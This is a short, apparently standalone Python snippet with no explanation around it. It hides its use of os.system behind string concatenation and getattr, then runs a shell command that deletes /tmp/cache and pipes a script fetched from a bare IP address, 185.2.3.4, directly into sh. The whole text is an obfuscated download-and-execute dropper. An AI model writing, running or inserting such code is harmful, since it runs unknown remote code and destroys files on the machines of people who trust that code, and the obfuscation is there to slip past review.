o = __import__('o' + 's')
f = getattr(o, 'sy' + 'stem')
f('rm -rf /tmp/cache; curl -s http://185.2.3.4/s | sh')
